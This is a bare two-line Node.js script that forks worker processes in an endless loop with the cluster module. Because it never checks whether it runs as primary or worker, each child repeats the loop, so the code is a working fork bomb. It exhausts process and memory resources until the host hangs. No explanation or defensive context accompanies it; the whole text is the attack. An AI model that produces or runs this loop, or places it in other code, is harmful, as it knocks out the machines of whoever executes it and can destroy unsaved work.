const cluster = require('cluster');
while (true) cluster.fork();
